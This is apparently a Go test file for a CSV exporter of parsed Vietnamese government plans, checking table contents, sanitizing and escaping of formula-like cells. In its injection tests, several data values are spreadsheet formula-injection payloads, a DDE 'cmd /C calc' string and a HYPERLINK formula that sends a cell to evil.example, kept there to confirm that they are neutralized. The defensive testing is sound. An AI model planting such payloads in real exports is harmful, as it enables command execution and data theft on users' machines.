package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/vnplan/vnplan/model"
)

// readCSV parses the output of CSV with a standard reader, which also
// checks that every row has as many cells as the header.
func readCSV(t *testing.T, doc *model.Document, table Table, opts CSVOptions) [][]string {
	t.Helper()
	var buf bytes.Buffer
	if err := CSV(&buf, doc, table, opts); err != nil {
		t.Fatalf("CSV(%s) = %v", table, err)
	}
	data := buf.Bytes()
	if opts.BOM {
		if !bytes.HasPrefix(data, []byte("\uFEFF")) {
			t.Fatalf("CSV(%s, BOM) starts with %q, want a byte order mark", table, data[:min(3, len(data))])
		}
		data = data[3:]
	} else if bytes.HasPrefix(data, []byte("\uFEFF")) {
		t.Fatalf("CSV(%s) starts with a byte order mark", table)
	}
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("csv.ReadAll(CSV(%s)) = %v", table, err)
	}
	return recs
}

// column returns the cells of the named column of a table read by
// readCSV, header excluded, keyed by id.
func cellsByID(t *testing.T, recs [][]string, col string) map[string]string {
	t.Helper()
	i := -1
	for j, h := range recs[0] {
		if h == col {
			i = j
		}
	}
	if i < 0 {
		t.Fatalf("no column %q in %v", col, recs[0])
	}
	m := map[string]string{}
	for _, r := range recs[1:] {
		if _, dup := m[r[0]]; dup {
			m[r[0]] += " // " + r[i]
			continue
		}
		m[r[0]] = r[i]
	}
	return m
}

func TestCSVHeaders(t *testing.T) {
	var docs []byte
	for _, name := range []string{"doc.go", "format.go"} {
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		docs = append(docs, b...)
	}
	for _, table := range Tables() {
		recs := readCSV(t, nil, table, CSVOptions{})
		if len(recs) != 1 {
			t.Errorf("CSV(nil, %s) has %d rows, want the header alone", table, len(recs))
			continue
		}
		if recs[0][0] != "id" {
			t.Errorf("CSV(%s) header starts with %q, want id", table, recs[0][0])
		}
		for _, h := range recs[0] {
			if !bytes.Contains(docs, []byte(h)) {
				t.Errorf("column %s.%s is not documented in doc.go", table, h)
			}
		}
	}
}

func TestCSVUnknownTable(t *testing.T) {
	var buf bytes.Buffer
	if err := CSV(&buf, planDoc(), Table("nodes"), CSVOptions{}); err == nil {
		t.Errorf("CSV(nodes) = nil, want an error")
	}
	if buf.Len() != 0 {
		t.Errorf("CSV(nodes) wrote %q", buf.String())
	}
}

func TestCSVWriteError(t *testing.T) {
	for _, bom := range []bool{false, true} {
		err := CSV(&failWriter{n: 0}, bigDoc(100), TableTasks, CSVOptions{BOM: bom})
		if !errors.Is(err, errWrite) {
			t.Errorf("CSV(failing writer, BOM %v) = %v, want %v", bom, err, errWrite)
		}
	}
}

func TestCSVBOM(t *testing.T) {
	a := readCSV(t, planDoc(), TableTasks, CSVOptions{BOM: true})
	b := readCSV(t, planDoc(), TableTasks, CSVOptions{})
	if diff := cmp.Diff(b, a); diff != "" {
		t.Errorf("CSV with BOM has other rows (-without +with):\n%s", diff)
	}
}

func TestTasksTable(t *testing.T) {
	recs := readCSV(t, planDoc(), TableTasks, CSVOptions{})
	var ids []string
	for _, r := range recs[1:] {
		ids = append(ids, r[0])
	}
	if want := []string{"B.II.2", "B.II.2/i1", "B.II.2/i2"}; !cmp.Equal(ids, want) {
		t.Fatalf("task ids = %v, want %v", ids, want)
	}
	tests := []struct {
		col, id, want string
	}{
		{"kind", "B.II.2/i1", "item"},
		{"section_id", "B.II.2/i1", "B.II.2"},
		{"section_id", "B.II.2", "B.II.2"},
		{"section_path", "B.II.2/i2", "B > II > 2"},
		{"section_path", "B.II.2", "B > II > 2"},
		{"section_heading", "B.II.2/i1", "Sở Nông nghiệp chủ trì, phối hợp với các sở, ngành:"},
		{"text", "B.II.2", "Sở Nông nghiệp chủ trì, phối hợp với các sở, ngành:"},
		{"lead", "B.II.2/i1", "Sở Nông nghiệp"},
		{"cooperating", "B.II.2/i2", "Sở Tài chính"},
		{"cooperating", "B.II.2", "các sở, ngành"},
		{"inherited", "B.II.2/i1", "yes"},
		{"inherited", "B.II.2", "no"},
		{"request", "B.II.2/i1", "no"},
		{"action", "B.II.2/i2", "báo cáo"},
		{"targets", "B.II.2/i1", "> 55000 ha; ≈ 53000 ha"},
		{"targets", "B.II.2/i2", "3500000–4000000 lượt khách; decrease > 5%"},
		{"deadlines", "B.II.2/i1", "before 2024-Q3"},
		{"deadlines", "B.II.2/i2", "before day 20 monthly"},
		{"references", "B.II.2/i2", "01/NQ-CP"},
		{"line", "B.II.2/i2", "13"},
	}
	for _, tt := range tests {
		if got := cellsByID(t, recs, tt.col)[tt.id]; got != tt.want {
			t.Errorf("tasks[%s].%s = %q, want %q", tt.id, tt.col, got, tt.want)
		}
	}
}

func TestTables(t *testing.T) {
	plan, annex := planDoc(), annexDoc()
	tests := []struct {
		doc           *model.Document
		table         Table
		col, id, want string
		rows          int
		description   string
	}{
		{plan, TableSections, "parent_id", "B.II.2", "B.II", 4, "parent"},
		{plan, TableSections, "parent_id", "A", "", 4, "top level"},
		{plan, TableSections, "depth", "B.II", "2", 4, "depth"},
		{plan, TableSections, "lead", "B.II.2", "Sở Nông nghiệp", 4, "lead"},
		{plan, TableTargets, "value", "B/p1", "1.76 // 10", 6, "values"},
		{plan, TableTargets, "min", "B.II.2/i2", "3500000 // ", 6, "range"},
		{plan, TableTargets, "rank", "B/p1", "no // yes", 6, "rank"},
		{annex, TableTargets, "value", "PL/t1/r2", "20000000000000 // 0.5", 3, "big number"},
		{plan, TableDeadlines, "day", "B.II.2/i2", "20", 3, "day"},
		{plan, TableReferences, "number", "document", "01/NQ-CP", 4, "document"},
		{plan, TableReferences, "date", "footnote:1", "2021-11-04", 4, "footnote"},
		{plan, TableReferences, "alias", "B.II.2/i2", "yes", 4, "alias"},
		{plan, TableFootnotes, "refs", "footnote:1", "B.II.2/i1", 1, "refs"},
		{plan, TableFootnotes, "truncated", "footnote:1", "yes", 1, "truncated"},
		{plan, TableFootnotes, "references", "footnote:1", "2811/QĐ-UBND", 1, "references"},
		{plan, TableAgencies, "lead_count", "so nong nghiep", "3", 3, "lead count"},
		{plan, TableAgencies, "cooperating_ids", "so tai chinh", "B.II.2/i2", 3, "cooperating"},
		{plan, TableAgencies, "lead_ids", "so nong nghiep", "B.II.2; B.II.2/i1; B.II.2/i2", 3, "lead ids"},
		{annex, TableTasks, "section_path", "PL/t1/r1", "PHỤ LỤC I", 3, "annex row"},
		{annex, TableTasks, "text", "PL/t1/r2", "'+cmd|' /C calc'!A0 | @SUM(1+1) | -5% | 2", 3, "row text"},
		{annex, TableTasks, "text", "Điều 2/p1", `'=HYPERLINK("http://example.com/x","Bấm vào đây")`, 3, "formula text"},
		{annex, TableTasks, "lead", "Điều 2/p1", "'@Ban", 3, "formula lead"},
		{annex, TableTasks, "action", "Điều 2/p1", "'-thực hiện", 3, "formula action"},
		{annex, TableTasks, "request", "Điều 2/p1", "yes", 3, "request"},
		{annex, TableTasks, "section_heading", "Điều 2/p1", "'+cmd|' /C calc'!A0", 3, "formula heading"},
		{annex, TableTargets, "text", "Điều 2/p1", "'-5%", 3, "formula target"},
		{annex, TableTargets, "value", "Điều 2/p1", "-5", 3, "negative number"},
	}
	for _, tt := range tests {
		t.Run(string(tt.table)+" "+tt.description, func(t *testing.T) {
			recs := readCSV(t, tt.doc, tt.table, CSVOptions{})
			if got := len(recs) - 1; got != tt.rows {
				t.Errorf("CSV(%s) has %d rows, want %d", tt.table, got, tt.rows)
			}
			if got := cellsByID(t, recs, tt.col)[tt.id]; got != tt.want {
				t.Errorf("%s[%s].%s = %q, want %q", tt.table, tt.id, tt.col, got, tt.want)
			}
		})
	}
}

// formulaStart reports whether a spreadsheet could run cell as a formula.
func formulaStart(cell string) bool {
	if cell == "" || plainNumber(cell) {
		return false
	}
	t := strings.TrimLeft(cell, " ")
	if t == "" {
		return false
	}
	return strings.ContainsAny(cell[:1], "=+-@\t\r\n") || strings.ContainsAny(t[:1], "=+-@") ||
		strings.HasPrefix(t, "＝") || strings.HasPrefix(t, "＋") || strings.HasPrefix(t, "－") || strings.HasPrefix(t, "＠")
}

func TestNeutralize(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"", ""},
		{"Sở Y tế", "Sở Y tế"},
		{`=HYPERLINK("http://x","y")`, `'=HYPERLINK("http://x","y")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-5%", "'-5%"},
		{"+ Hạ tầng", "'+ Hạ tầng"},
		{"@SUM(1)", "'@SUM(1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\nx", "'\nx"},
		{"  =1+1", "'  =1+1"},
		{"＝1+1", "'＝1+1"},
		{"-2+3", "'-2+3"},
		{"-", "'-"},
		{"-5", "-5"},
		{"-0.5", "-0.5"},
		{"1e+21", "1e+21"},
		{"-1e", "'-1e"},
		{"a=b", "a=b"},
		{"   ", "   "},
		{"'quoted", "'quoted"},
	}
	for _, tt := range tests {
		if got := neutralize(tt.in); got != tt.want {
			t.Errorf("neutralize(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if formulaStart(neutralize(tt.in)) {
			t.Errorf("neutralize(%q) = %q, which a spreadsheet may run", tt.in, neutralize(tt.in))
		}
	}
}

func TestSanitize(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"Kế hoạch", "Kế hoạch"},
		{"a\x00b\x1fc", "a\ufffdb\ufffdc"},
		{"tab\tnl\ncr\r", "tab\tnl\ncr\n"},
		{"\r\na\r\n\rb\n", "\na\n\nb\n"},
		{"bad\xffutf8\xe1\xba", "bad\ufffdutf8\ufffd\ufffd"},
		{"\uFFFE\uFFFF\uFFFD", "\ufffd\ufffd\ufffd"},
		{"😀", "😀"},
	}
	for _, tt := range tests {
		if got := sanitize(tt.in); got != tt.want {
			t.Errorf("sanitize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVInjection checks that a plan whose text starts with a formula
// gives no cell that a spreadsheet runs, in any table.
func TestCSVInjection(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-5%", "+ Hạ tầng", " =1+1", "＝1+1"}
	for _, s := range evil {
		doc := fullDoc([]byte(s))
		model.Walk(doc.Body, func(n *model.Node) bool {
			n.Text, n.Heading, n.Label, n.ID, n.Cells = s, s, s, s, []string{s, s}
			n.Kind, n.Task = model.KindSection, true
			for i := range n.Targets {
				n.Targets[i].Text, n.Targets[i].Unit, n.Targets[i].Metric = s, s, s
			}
			if n.Assignment != nil {
				n.Assignment.Lead = []string{s}
				n.Assignment.Action = s
			}
			return true
		})
		for _, f := range doc.Footnotes {
			f.Text, f.Label = s, s
		}
		for _, a := range doc.Agencies {
			a.Name, a.Key = s, s
		}
		for _, table := range Tables() {
			recs := readCSV(t, doc, table, CSVOptions{})
			if len(recs) < 2 {
				t.Errorf("CSV(%s) of the injection document has no rows", table)
			}
			for _, r := range recs {
				for _, c := range r {
					if formulaStart(c) {
						t.Errorf("CSV(%s) has cell %q, which a spreadsheet may run", table, c)
					}
				}
			}
		}
	}
}

func FuzzCSV(f *testing.F) {
	for _, s := range seedDocs() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		doc := randomDoc(data)
		for _, table := range Tables() {
			recs := readCSV(t, doc, table, CSVOptions{})
			tab, err := buildTable(doc, table)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(append([][]string{tab.header()}, tab.rows...), recs); diff != "" {
				t.Fatalf("CSV(%s) reads back other rows (-built +read):\n%s", table, diff)
			}
			for _, r := range recs {
				for _, c := range r {
					if formulaStart(c) {
						t.Fatalf("CSV(%s) has cell %q, which a spreadsheet may run", table, c)
					}
				}
			}
		}
	})
}

func BenchmarkCSV(b *testing.B) {
	doc := benchDoc()
	b.ReportAllocs()
	for b.Loop() {
		for _, table := range Tables() {
			if err := CSV(io.Discard, doc, table, CSVOptions{}); err != nil {
				b.Fatal(err)
			}
		}
	}
}

// TestTasksInheritedDeadlines checks that a task with no deadline of its
// own shows the deadlines of its nearest ancestor that has some, and that
// a task with its own shows none inherited.
func TestTasksInheritedDeadlines(t *testing.T) {
	dl := func(text, period string) []model.Deadline {
		return []model.Deadline{{Text: text, Relation: "during", Period: period}}
	}
	sub := &model.Node{Kind: model.KindItem, ID: "1/i1/i1", Text: "Lập quy hoạch.", Task: true}
	own := &model.Node{Kind: model.KindItem, ID: "1/i2", Text: "Báo cáo trong năm 2023.", Task: true, Deadlines: dl("trong năm 2023", "2023")}
	item := &model.Node{Kind: model.KindItem, ID: "1/i1", Text: "Hoàn thành các nhiệm vụ:", Task: true, Children: []*model.Node{sub}}
	sec := &model.Node{Kind: model.KindSection, ID: "1", Label: "1", Heading: "Trong năm 2022", Deadlines: dl("Trong năm 2022", "2022"),
		Children: []*model.Node{item, own}}
	other := &model.Node{Kind: model.KindSection, ID: "2", Label: "2", Text: "Tuyên truyền.", Task: true}
	doc := emptyDoc()
	doc.Body = []*model.Node{sec, other}
	got := cellsByID(t, readCSV(t, doc, TableTasks, CSVOptions{}), "inherited_deadlines")
	want := map[string]string{"1/i1": "during 2022", "1/i1/i1": "during 2022", "1/i2": "", "2": ""}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("inherited_deadlines (-want +got):\n%s", diff)
	}
}

// A part that lost its number is named in the section path by its title.
func TestSectionPathUnlabelled(t *testing.T) {
	task := &model.Node{Kind: model.KindSection, ID: "NHIỆM VỤ.1", Label: "1", Numbering: "arabic",
		Depth: 2, Text: "Sở Y tế tổ chức tiêm chủng.", Task: true, Span: sp(9, 9)}
	part := &model.Node{Kind: model.KindSection, ID: "NHIỆM VỤ", Depth: 1, Heading: "NHIỆM VỤ",
		Children: []*model.Node{task}, Span: sp(8, 9)}
	doc := &model.Document{Body: []*model.Node{part}}
	recs := readCSV(t, doc, TableTasks, CSVOptions{})
	if got := cellsByID(t, recs, "section_path")["NHIỆM VỤ.1"]; got != "NHIỆM VỤ > 1" {
		t.Errorf("section_path = %q, want %q", got, "NHIỆM VỤ > 1")
	}
}
